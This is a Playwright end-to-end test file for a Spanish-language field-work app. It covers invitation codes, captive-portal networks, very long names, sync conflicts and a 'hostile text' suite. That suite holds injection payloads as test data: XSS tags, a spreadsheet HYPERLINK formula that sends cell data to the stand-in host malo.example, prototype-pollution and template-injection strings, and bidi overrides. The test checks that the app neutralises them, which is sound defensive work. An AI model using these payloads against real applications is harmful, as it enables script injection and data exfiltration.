import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type ApiPerson, enrolAdministrator, enrolByApi, enterWithCode, inviteByApi } from './support/enrol-people.ts';
import { createInstitution } from './support/field-work.ts';
import { openTablet, sizes, type TestTablet } from './support/open-tablet.ts';
import { pullAllByApi } from './support/pull-by-api.ts';
import { startStandIn } from './support/stand-in-server.ts';
import { type RunningServer, startServer } from './support/start-server.ts';

const patience = { timeout: 30_000 };
const vinchos = { letters: 'vinch', option: /Huamanga · Ayacucho/ };
const acora = { letters: 'acora', option: /Puno · Puno/ };
const assistant = (name: string) => ({ name, role: 'assistant' as const, regions: ['05'] });

let server: RunningServer;
let admin: ApiPerson;
let colleague: ApiPerson;
let maria: TestTablet;

beforeAll(async () => {
  server = await startServer();
  admin = await enrolAdministrator(server);
  const code = await inviteByApi(server.origin, admin, assistant('Elmer Tello'));
  colleague = await enrolByApi(server.origin, code, 'Elmer Tello');
  maria = await openTablet(server.origin, sizes.phone);
});
afterAll(async () => {
  await maria?.remove();
  await server?.remove();
});

/** Every value that a colleague of region 05 reads at the endpoint. */
async function readValues(): Promise<unknown[]> {
  const { changes } = await pullAllByApi(server.origin, colleague, ['region:05']);
  return changes.flatMap(({ items }) => items).flatMap((item) => ('value' in item ? [item.value] : []));
}

async function openSending(page: Page): Promise<void> {
  await page.goto(`${server.origin}/envio`);
  await page.getByRole('heading', { level: 1, name: /^Envío/ }).waitFor();
}

async function sendNow(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Enviar ahora' }).click();
  await page.getByText(/^(Listo|No había nada)/).waitFor();
}

describe('a code that does not open', () => {
  const tryCode = async (code: string) => {
    const { page } = maria;
    await page.goto(server.origin);
    await page.getByLabel(/Código de invitación/).fill(code);
    await page.getByLabel(/Tu nombre/).fill('María Quispe');
    await page.getByRole('button', { name: 'Entrar' }).click();
  };
  const expectStillTyped = async (code: string) => {
    expect(await maria.page.getByLabel(/Código de invitación/).inputValue()).toBe(code);
    expect(await maria.page.getByLabel(/Tu nombre/).inputValue()).toBe('María Quispe');
  };

  test('is one that nobody gave: said so, and what was typed stays', async () => {
    await tryCode('0000-1111-2222-3333');
    await maria.page.getByRole('alert').getByText('No encontramos ese código.').waitFor();
    await expectStillTyped('0000-1111-2222-3333');
  });

  test('is too short or has a letter that no code has: said before anybody is asked', async () => {
    await tryCode('7K3F-Q2M');
    await maria.page.getByRole('alert').getByText('le faltan 9 letras o números').waitFor();
    await tryCode('UUUU-1111-2222-3333');
    await maria.page.getByRole('alert').getByText('El código no usa U').waitFor();
  });

  test('is one that somebody used already', async () => {
    const code = await inviteByApi(server.origin, admin, { person: colleague.id });
    await enrolByApi(server.origin, code, 'Elmer Tello');
    await tryCode(code);
    await maria.page.getByRole('alert').getByText('Ese código ya se usó.').waitFor();
  });

  test('cannot be asked about in a network that wants to be signed in to first', async () => {
    const code = await inviteByApi(server.origin, admin, assistant('María Quispe'));
    await maria.page.goto(server.origin);
    await maria.page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    await server.stop();
    const standIn = await startStandIn(server.origin);
    try {
      await tryCode(code);
      await maria.page.getByRole('alert').getByText('Esta red pide registrarse').waitFor();
      await expectStillTyped(code);
    } finally {
      await standIn.stop();
      await server.start();
    }
    await maria.page.getByRole('button', { name: 'Entrar' }).click();
    await maria.page.getByRole('heading', { level: 1, name: 'Hoy' }).waitFor();
  });

  test('is none: lower case, no dashes, O for zero and L for one still open the door', async () => {
    let code = '';
    while (!/0/.test(code) || !/1/.test(code)) {
      code = await inviteByApi(server.origin, admin, assistant('Nelly Poma'));
    }
    const nelly = await openTablet(server.origin, sizes.phone);
    try {
      await nelly.page.goto(server.origin);
      const typed = code.replaceAll('-', '').replaceAll('0', 'O').replaceAll('1', 'L').toLowerCase();
      await nelly.page.getByLabel(/Código de invitación/).pressSequentially(typed);
      await nelly.page.getByLabel(/Tu nombre/).fill('Nelly Poma');
      await nelly.page.getByRole('button', { name: 'Entrar' }).click();
      await nelly.page.getByRole('heading', { level: 1, name: 'Hoy' }).waitFor();
    } finally {
      await nelly.remove();
    }
  });
});

test('a network that answers in the server’s place is named, loses nothing, and all is sent after it', async () => {
  const { page } = maria;
  await server.stop();
  const standIn = await startStandIn(server.origin);
  try {
    await page.goto(server.origin);
    await createInstitution(page, 'Posta de la plaza con WiFi', vinchos);
    await expect.poll(() => standIn.asked.length, patience).toBeGreaterThan(0);
    await page.getByRole('link', { name: /^Sin conexión · 1 por enviar/ }).click();
    await page.getByRole('heading', { name: 'Sin conexión · 1 por enviar' }).waitFor();
    await page.getByText(/Suele ser una red que pide registrarse/).waitFor();
    await page.getByRole('button', { name: 'Enviar ahora' }).click();
    await page
      .getByRole('status')
      .getByText(/Contestó algo que no es el servidor de Ayni/)
      .waitFor();
    await page.getByRole('link', { name: /Posta de la plaza con WiFi/ }).waitFor();
  } finally {
    await standIn.stop();
    await server.start();
  }
  await sendNow(page);
  await page.getByRole('heading', { name: 'Al día' }).waitFor();
  expect(await readValues()).toContain('Posta de la plaza con WiFi');
});

test('a name of ten thousand letters is kept whole and breaks no page of a phone', async () => {
  const { page } = maria;
  const name = `Institución ${'muylarga'.repeat(1300)}`.slice(0, 10_000);
  await page.goto(server.origin);
  await createInstitution(page, name, vinchos);
  const address = page.url();
  expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe(name);
  for (const place of [address, `${address}/editar`, '/asistencias', '/hoy', '/envio']) {
    await page.goto(new URL(place, server.origin).href);
    await page.getByRole('heading', { level: 1 }).waitFor();
    if (place !== '/hoy') await readLongName(page);
    expect(await widestPart(page), place).toBeLessThanOrEqual(sizes.phone.width);
  }
  await openSending(page);
  await sendNow(page);
  expect(await readValues()).toContain(name);
});

/** Waits until the long name is on the page, in a field or as text. */
async function readLongName(page: Page): Promise<void> {
  const shown = () =>
    page.evaluate(() =>
      [document.body.textContent, ...[...document.querySelectorAll('input')].map(({ value }) => value)].join(' '),
    );
  await expect.poll(shown, patience).toContain('muylargamuylarga');
}

/** Right edge, in px, of what reaches farthest; what a box of its own clips or scrolls does not reach. */
async function widestPart(page: Page): Promise<number> {
  return page.evaluate(() => {
    const isClipped = (element: Element | null): boolean =>
      element !== null &&
      element !== document.body &&
      (getComputedStyle(element).overflowX !== 'visible' || isClipped(element.parentElement));
    const free = [...document.body.querySelectorAll('*')].filter((each) => !isClipped(each.parentElement));
    const edges = free.map((each) => each.getBoundingClientRect().right);
    return Math.round(Math.max(document.documentElement.scrollWidth, ...edges));
  });
}

describe('one change that the server sets aside', () => {
  test('keeps none of the others back, says why, and opens at a tap', async () => {
    const { page } = maria;
    await page.goto(server.origin);
    await server.stop();
    await createInstitution(page, 'Antes de la apartada', vinchos);
    await createInstitution(page, 'La de otra región', acora);
    await createInstitution(page, 'Después de la apartada', vinchos);
    await server.start();
    await openSending(page);
    await sendNow(page);
    await expect.poll(() => readValues(), patience).toContain('Después de la apartada');
    const values = await readValues();
    expect(values).toContain('Antes de la apartada');
    expect(values).not.toContain('La de otra región');

    await page.getByRole('link', { name: /^1 por corregir/ }).waitFor();
    const aside = page.getByRole('region', { name: /^Apartado/ });
    await aside.getByRole('heading', { name: /La de otra región/ }).waitFor();
    await aside.getByText('Es de una región que no está entre las tuyas.').waitFor();
    await aside.getByRole('link', { name: 'Ver el registro' }).click();
    const name = page.getByRole('textbox', { name: /^Nombre/ });
    await expect.poll(() => name.inputValue(), patience).toBe('La de otra región');
  });
});

describe('hostile text', () => {
  const hostile = [
    '<img src=x onerror="window.ran = 1"><script>window.ran = 2</script>',
    '=HYPERLINK("http://malo.example/?"&A1;"Ver")',
    '__proto__',
    '{{constructor.constructor("window.ran = 3")()}} <%= window.ran %>',
    `e${'\u0301'.repeat(300)} \u202Eal revés\u202C`,
  ];

  test('arrives on another tablet letter by letter, and nothing of it runs on either', async () => {
    const { page } = maria;
    await page.goto(server.origin);
    for (const text of hostile) {
      await createInstitution(page, text, vinchos);
      expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe(text);
    }
    await openSending(page);
    await sendNow(page);

    const elmer = await openTablet(server.origin);
    try {
      const code = await inviteByApi(server.origin, admin, { person: colleague.id });
      await enterWithCode(elmer, server.origin, code, 'Elmer Tello');
      await openSending(elmer.page);
      await sendNow(elmer.page);
      await elmer.page.getByRole('link', { name: 'Asistencias', exact: true }).click();
      const cards = elmer.page.getByRole('region', { name: 'Instituciones' }).getByRole('heading', { level: 3 });
      await expect.poll(async () => cards.allTextContents(), patience).toEqual(expect.arrayContaining(hostile));
      await elmer.page.getByRole('link', { name: '__proto__' }).click();
      await elmer.page.getByRole('heading', { level: 1, name: '__proto__' }).waitFor();
      for (const { page: each } of [maria, elmer]) {
        expect(await each.evaluate(() => 'ran' in window)).toBe(false);
        expect(await each.locator('img, script:not([src])').count()).toBe(0);
      }
      expect(elmer.errors).toEqual([]);
    } finally {
      await elmer.remove();
    }
  });
});
